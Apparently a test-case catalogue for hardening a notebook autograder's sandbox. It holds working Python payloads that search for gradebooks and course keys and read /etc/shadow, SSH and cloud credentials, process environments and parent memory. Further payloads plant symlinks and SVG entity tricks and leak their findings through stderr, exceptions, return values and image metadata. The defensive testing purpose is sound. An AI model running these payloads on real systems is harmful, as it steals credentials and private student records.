"""Students who read what is not theirs and carry it out of the sandbox.

What a case finds it shows as it is: a test plants secrets and looks for them in all that a student gets back.
What would show an instructor's own passwords is caged.
"""

from __future__ import annotations

from catalogue.sheets import caged, tricks

LOOT = """
import glob, os, re, time

def strings(path, most=200_000):
    try:
        with open(path, "rb") as file:
            return path + ": " + " ".join(t.decode() for t in re.findall(rb"[ -~]{5,}", file.read(most)))
    except OSError:
        return ""

def folders():
    here = os.getcwd()
    while here != "/":
        yield here
        here = os.path.dirname(here)
    yield from ("/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/opt", "/srv", "/mnt", "/run", "/")

def loot(wanted, seconds=0.7):
    end = time.monotonic() + seconds
    for top in folders():
        for folder, inner, files in os.walk(top):
            inner[:] = [one for one in inner if one not in ("proc", "sys", "usr", "lib", "site-packages")]
            for path in (os.path.join(folder, name) for name in files):
                if re.search(wanted, path):
                    yield strings(path)
            if time.monotonic() > end:
                return

"""

READS = """
=== gradebook-read
The gradebook is looked for in all folders above and shown.
print(*loot(r"gradebook[.]db"))

=== gradebook-by-its-usual-places
The gradebook is opened with sqlite at every place where a course may keep it.
import sqlite3

for folder in folders():
    for path in glob.glob(f"{folder}/gradebook.db") + glob.glob(f"{folder}/*/gradebook.db"):
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
            for table, in book.execute("select name from sqlite_master").fetchall():
                print(table, book.execute(f"select * from {table} limit 200").fetchall())

=== course-key-read
The course key, which decides the hidden inputs, is looked for and shown.
print(*loot(r"course_key"))

=== other-submissions-read
What others have handed in, and what they got for it, is looked for and shown.
print(*loot(r"/(submitted|autograded|feedback)/|[.]ipynb$|grades[.]csv|roster[.]csv"))

=== links-to-what-is-not-there
Links to secrets are put where a grader may collect files after the run.
for folder in folders():
    for name in ("gradebook.db", "course_key"):
        try:
            os.symlink(f"{folder}/{name}", f"picture-{name}-{len(os.listdir())}.png")
        except OSError:
            pass

=== feedback-that-includes-files
Markdown, HTML and SVG in the output ask whoever converts them to put in a file.
from IPython.display import HTML, SVG, Markdown, display

for path in ("/etc/passwd", "../../gradebook.db", "course_key"):
    display(Markdown(f"![key]({path}) {{% include '{path}' %}} {{{{ open('{path}').read() }}}}"))
    display(HTML(f"<iframe src='{path}'></iframe><img src='{path}'><object data='{path}'></object>"))
    display(SVG(f"<!DOCTYPE s [<!ENTITY x SYSTEM '{path}'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>"))
"""

PRIVATE = """
=== configuration-read
The configuration of the course and the instructor's notes are looked for and shown.
print(*loot(r"nbgrader_config|[.]nbgrader[.]log|instructor|[.]env$|[.]cache/"))

=== environment-read
The environment of this process is shown.
import os, sys

print(dict(os.environ), sys.argv, sys.orig_argv, os.getcwd(), os.uname())

=== environments-of-others-read
Environment, command line and open files of every process that can be seen are shown.
for pid in filter(str.isdigit, os.listdir("/proc")):
    print(strings(f"/proc/{pid}/environ"), strings(f"/proc/{pid}/cmdline"), strings(f"/proc/{pid}/mountinfo"))
    for link in glob.glob(f"/proc/{pid}/fd/*") + [f"/proc/{pid}/root", f"/proc/{pid}/cwd"]:
        try:
            print(link, os.readlink(link))
        except OSError:
            pass

=== roots-of-others-walked
The root and the working folder of other processes lead out of one's own file system.
for pid in filter(str.isdigit, os.listdir("/proc")):
    for way in ("root", "cwd"):
        for path in glob.glob(f"/proc/{pid}/{way}/*") + glob.glob(f"/proc/{pid}/{way}/../*"):
            print(strings(path, 5_000))

=== memory-of-the-parent-read
The memory of the parent process is searched for what belongs to the grader.
import os, re

for pid in {os.getppid(), 1}:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for low, high in re.findall(r"(?m)^(\\w+)-(\\w+) rw", maps.read()):
            memory.seek(int(low, 16))
            held = memory.read(min(int(high, 16) - int(low, 16), 10**7))
            print(*re.findall(rb"(?i)[ -~]*(?:course.key|hmac|CANA[R]Y|gradebook)[ -~]*", held)[:50])

=== own-memory-read
What the warm interpreter has in memory since before the fork is searched for secrets.
import gc, re

for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple, set):
        for value in [*thing.values()] if type(thing) is dict else [*thing]:
            text = str(value)[:10_000] if type(value) in (str, bytes) else ""
            if re.search("(?i)course.?key|CANA[R]Y|gradebook", text):
                print(text)

=== passwords-and-keys-read
Passwords, keys and tokens are looked for where they usually lie.
print(strings("/etc/passwd"), strings("/etc/shadow"), strings("/etc/hosts"), strings("/etc/machine-id"))
for name in (".ssh/*", ".aws/*", ".netrc", ".git-credentials", ".config/gh/*", ".jupyter/*", ".pypirc"):
    for home in {os.path.expanduser("~"), "/root", *glob.glob("/home/*")}:
        print(*map(strings, glob.glob(f"{home}/{name}")))

=== home-read
The home folders are listed and read, by their usual names and by the user's entry.
import pwd

for home in {os.path.expanduser("~"), "/root", "/home", *(entry.pw_dir for entry in pwd.getpwall())}:
    print(home, *map(strings, glob.glob(f"{home}/*") + glob.glob(f"{home}/.*")))

=== open-files-read
Every file descriptor that is open is read, and what can be reached through a folder that is open.
for fd in range(3, 256):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"), os.pread(fd, 100_000, 0))
    except OSError:
        pass
    for place in ("..", "../..", "../../gradebook.db", "../../course_key"):
        try:
            print(os.listdir(f"/proc/self/fd/{fd}/{place}"), strings(f"/proc/self/fd/{fd}/{place}"))
        except OSError:
            pass

=== left-by-others-read
What other notebooks have left in shared memory and in temporary folders is shown.
for place in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/dev/mqueue", os.getcwd(), os.path.expanduser("~")):
    print(place, *map(strings, glob.glob(f"{place}/**", recursive=True)[:500]))
"""

CARRIES = """
=== loot-on-stderr
What is found goes to stderr, warnings, the log and the terminal.
import logging, sys, warnings

found = " ".join(loot("gradebook[.]db|course_key"))[:100_000]
print(found, file=sys.stderr)
warnings.warn(found)
logging.getLogger("nbgrader").critical(found)
os.write(1, found.encode())
os.write(2, found.encode())

=== loot-in-an-exception
What is found is the text of an exception, in the cell and in the checked function.
def lifetime_value(margin, retention, rate, years=None):
    raise ValueError(" ".join(loot("gradebook[.]db|course_key"))[:100_000])

raise ValueError(" ".join(loot("gradebook[.]db|course_key"))[:100_000])

=== loot-in-the-value
What is found is what the function returns.
def lifetime_value(margin, retention, rate, years=None):
    return " ".join(loot("gradebook[.]db|course_key"))[:100_000]

=== loot-in-the-type
What is found is the name of the answer's type and of the exception's type.
def lifetime_value(margin, retention, rate, years=None):
    found = " ".join(loot("gradebook[.]db|course_key"))[:10_000]
    if years is None:
        raise type(found, (Exception,), {})
    return type(found, (), {})()

=== loot-in-a-picture
What is found is drawn, and stands in the text of a PNG and in attributes of HTML.
from IPython.display import HTML, Image, display
import matplotlib.pyplot as plt

found = " ".join(loot("gradebook[.]db|course_key"))[:20_000]
plt.figtext(0, 0.5, found[:2_000])
plt.savefig("found.png", metadata={"Comment": found})
plt.show()
display(Image("found.png"), HTML(f"<p title='{found}' data-found='{found}'></p><!-- {found} -->"))
"""

CASES = [*tricks(READS, LOOT), *tricks(CARRIES, LOOT), *caged(PRIVATE, LOOT)]
